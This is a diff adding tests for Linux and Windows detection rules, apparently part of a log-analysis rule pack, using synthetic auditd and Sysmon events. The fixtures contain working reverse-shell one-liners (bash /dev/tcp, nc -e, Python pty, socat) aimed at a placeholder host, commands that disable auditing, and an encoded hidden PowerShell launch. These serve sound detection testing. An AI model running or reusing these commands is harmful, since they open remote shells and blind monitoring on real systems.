@@ -256,3 +256,119 @@ def test_data_samples_incident_found_and_decoys_quiet(samples: Path) -> None:
     # no single-event rule has, so both sudo rules fire on it and say so in falsepositives
     assert on_decoys == {("lnx_sudo_root_shell", ("auth.log", 470), "sudo to root"),
                          ("lnx_auditd_sudo_root_shell", ("audit.log", 3543), "sudo to root")}
+
+
+# -- faithful tiny inputs: what no fixture holds ---------------------------------------------
+
+
+def _execve(serial: int, exe: str, *argv: str) -> str:
+    """One auditd execve event (SYSCALL + EXECVE with hex-encoded arguments + EOE)."""
+    head = f"msg=audit(1767225600.{serial:03d}:{serial})"
+    args = " ".join(f"a{i}={a.encode().hex().upper()}" for i, a in enumerate(argv))
+    return (f'type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 ppid=1 '
+            f'pid={1000 + serial} auid=1000 uid=0 gid=0 euid=0 tty=pts0 ses=3 '
+            f'comm="{Path(exe).name}" exe="{exe}" key="exec"\n'
+            f"type=EXECVE {head}: argc={len(argv)} {args}\n"
+            f"type=EOE {head}: \n")
+
+
+EXECS = [  # (exe, argv, rules expected)
+    ("/tmp/.cache/kworker", ["/tmp/.cache/kworker"], ["lnx_exec_from_tmp"]),
+    ("/dev/shm/x", ["/dev/shm/x", "-d"], ["lnx_exec_from_tmp"]),
+    ("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1"],
+     ["lnx_reverse_shell_cmdline"]),
+    ("/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "192.0.2.9", "4444"],
+     ["lnx_reverse_shell_cmdline"]),
+    ("/usr/bin/python3.11", ["python3", "-c", "import socket,os,pty;s=socket.socket();"
+                             "s.connect(('192.0.2.9',4444));[os.dup2(s.fileno(),f) for f in "
+                             "(0,1,2)];pty.spawn('/bin/sh')"], ["lnx_reverse_shell_cmdline"]),
+    ("/usr/bin/socat", ["socat", "tcp:192.0.2.9:4444", "exec:/bin/sh,pty,stderr"],
+     ["lnx_reverse_shell_cmdline"]),
+    ("/usr/sbin/auditctl", ["auditctl", "-e", "0"], ["lnx_audit_disabled_cmd"]),
+    ("/usr/bin/systemctl", ["systemctl", "stop", "auditd"], ["lnx_audit_disabled_cmd"]),
+    # normal: a port probe with nc, python using sockets, auditctl listing, systemctl status
+    ("/usr/bin/nc.openbsd", ["nc", "-z", "db1", "5432"], []),
+    ("/usr/bin/python3", ["python3", "-c", "import socket; print(socket.gethostname())"], []),
+    ("/usr/sbin/auditctl", ["auditctl", "-l"], []),
+    ("/usr/bin/systemctl", ["systemctl", "status", "auditd"], []),
+    ("/usr/bin/find", ["find", "/tmp", "-mtime", "+7", "-delete"], []),
+]
+
+
+def test_linux_process_creation_rules(tmp_path: Path) -> None:
+    log = tmp_path / "audit.log"
+    log.write_text("".join(_execve(i + 1, exe, *argv) for i, (exe, argv, _) in enumerate(EXECS)),
+                   encoding="utf-8")
+    root = store_of(tmp_path, [log])
+    want: dict[str, list[tuple[str, int]]] = defaultdict(list)
+    for i, (_, _, rules) in enumerate(EXECS):
+        for r in rules:
+            want[r].append(("audit.log", 3 * i + 1))
+    assert pack_hits(root) == dict(want)
+
+
+def _winlogbeat(n: int, channel: str, event_id: int, provider: str,
+                data: dict[str, str]) -> str:
+    return json.dumps({
+        "@timestamp": f"2026-03-02T10:00:{n:02d}.000Z",
+        "agent": {"type": "winlogbeat", "version": "8.15.3"},
+        "winlog": {"channel": channel, "event_id": str(event_id), "provider_name": provider,
+                   "computer_name": "WS-01", "record_id": str(n), "event_data": data}}) + "\n"
+
+
+SYSMON = "Microsoft-Windows-Sysmon/Operational"
+WIN = [  # (channel, event id, provider, event data, rules expected)
+    (SYSMON, 13, "Microsoft-Windows-Sysmon",
+     {"EventType": "SetValue", "Image": "C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe",
+      "TargetObject": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\upd",
+      "Details": "C:\\Users\\u\\AppData\\Local\\Temp\\upd.exe"}, ["win_run_key_persistence"]),
+    (SYSMON, 13, "Microsoft-Windows-Sysmon",
+     {"EventType": "SetValue", "Image": "C:\\Windows\\system32\\services.exe",
+      "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\BITS\\Start",
+      "Details": "DWORD (0x00000003)"}, []),
+    ("System", 7045, "Service Control Manager",
+     {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe",
+      "ServiceType": "user mode service", "StartType": "demand start",
+      "AccountName": "LocalSystem"}, ["win_new_service_system"]),
+    ("Security", 4697, "Microsoft-Windows-Security-Auditing",
+     {"ServiceName": "updsvc", "ServiceFileName": "C:\\ProgramData\\u.exe",
+      "SubjectUserName": "u"}, ["win_new_service_security"]),
+    (SYSMON, 8, "Microsoft-Windows-Sysmon",
+     {"SourceImage": "C:\\Users\\u\\Downloads\\inj.exe",
+      "TargetImage": "C:\\Windows\\explorer.exe", "StartAddress": "0x00000000001A0000"},
+     ["win_create_remote_thread"]),
+    (SYSMON, 8, "Microsoft-Windows-Sysmon",
+     {"SourceImage": "C:\\Windows\\System32\\csrss.exe",
+      "TargetImage": "C:\\Windows\\System32\\svchost.exe", "StartAddress": "0x7FF6"}, []),
+    (SYSMON, 1, "Microsoft-Windows-Sysmon",
+     {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
+      "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"},
+     ["win_server_or_office_spawns_shell"]),
+    (SYSMON, 1, "Microsoft-Windows-Sysmon",
+     {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+      "CommandLine": "powershell.exe -nop -w hidden -encodedcommand SQBFAFgA",
+      "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},
+     ["win_powershell_encoded_command", "win_server_or_office_spawns_shell"]),
+    (SYSMON, 1, "Microsoft-Windows-Sysmon",  # normal: Excel opening a file, a PS script
+     {"Image": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
+      "CommandLine": "EXCEL.EXE /dde", "ParentImage": "C:\\Windows\\explorer.exe"}, []),
+    (SYSMON, 1, "Microsoft-Windows-Sysmon",
+     {"Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+      "CommandLine": "powershell.exe -ExecutionPolicy Bypass -File C:\\s\\patch.ps1",
+      "ParentImage": "C:\\Windows\\explorer.exe"}, []),
+    (SYSMON, 10, "Microsoft-Windows-Sysmon",
+     {"SourceImage": "C:\\Windows\\system32\\svchost.exe",
+      "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1000"}, []),
+]
+
+
+def test_windows_rules(tmp_path: Path) -> None:
+    log = tmp_path / "winlogbeat.ndjson"
+    log.write_text("".join(_winlogbeat(i, *row[:4]) for i, row in enumerate(WIN)),
+                   encoding="utf-8")
+    root = store_of(tmp_path, [log])
+    want: dict[str, list[tuple[str, int]]] = defaultdict(list)
+    for i, row in enumerate(WIN):
+        for r in row[4]:
+            want[r].append(("winlogbeat.ndjson", i + 1))
+    assert pack_hits(root) == dict(want)
